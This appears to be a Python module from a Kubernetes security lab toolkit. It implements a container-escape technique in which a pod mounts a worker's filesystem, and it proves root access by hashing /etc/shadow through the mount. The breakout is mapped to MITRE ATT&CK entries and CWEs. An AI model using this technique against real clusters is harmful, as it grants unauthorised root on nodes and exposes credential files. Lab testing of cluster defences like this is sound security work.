"""Become root on a worker by having it run a pod that mounts its file system.

Whoever may create pods decides what they may do on the machine, unless admission objects; the
pod need not even be privileged.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from labkit.errors import ProbeError
from labkit.model import Foothold, Model
from labkit.techniques._lib.api.access import CHANNEL
from labkit.techniques._lib.api.breakout import MOUNT, WORKER, break_out, may_break_out
from labkit.techniques._lib.machines.reach import digest
from labkit.techniques._lib.technique import (
    NETWORK,
    POD,
    ROOT_ON_WORKER,
    USER_ON_WORKER,
    Prediction,
    Technique,
)
from labkit.techniques._lib.verdict import Verdict

if TYPE_CHECKING:
    from labkit.lab import Lab

__all__ = ["TECHNIQUE"]

ONLY_ROOT_READS = "/etc/shadow"
#: What a container leaves there, the apiserver shows to whoever may read the pod.
COMMAND = f"sha256sum {MOUNT}{ONLY_ROOT_READS} >/dev/termination-log"


def predict(model: Model, foothold: Foothold) -> Prediction:
    """Say what the model says: whether the caller may create pods, and admission lets him."""
    return may_break_out(model, foothold)


def execute(lab: Lab, foothold: Foothold) -> Verdict:
    """Create the pod, and wait for what it read."""

    def proof(said: str) -> str:
        expected = digest(lab, WORKER, ONLY_ROOT_READS)
        if expected not in said:
            raise ProbeError(f"the pod ran, but did not read {ONLY_ROOT_READS}")
        return f"the pod read {ONLY_ROOT_READS} of {WORKER}; the right bytes by their hash"

    return break_out(lab, TECHNIQUE.name, foothold, COMMAND, proof)


TECHNIQUE = Technique(
    name="host-path-pod",
    title="Become root on a worker with a pod that mounts its files",
    footholds=(NETWORK, USER_ON_WORKER, POD, ROOT_ON_WORKER),
    grants=(ROOT_ON_WORKER,),
    about=CHANNEL,
    properties=("client_authentication", "authorization"),
    attack=("T1610", "T1611"),
    stride=("elevation of privilege",),
    cwe=("CWE-250", "CWE-269"),
    sources=(
        "Securing communications in Kubernetes (2016), Worker nodes",
        "https://kubernetes.io/docs/concepts/security/pod-security-standards/",
        "https://attack.mitre.org/techniques/T1611/",
    ),
    predict=predict,
    execute=execute,
)
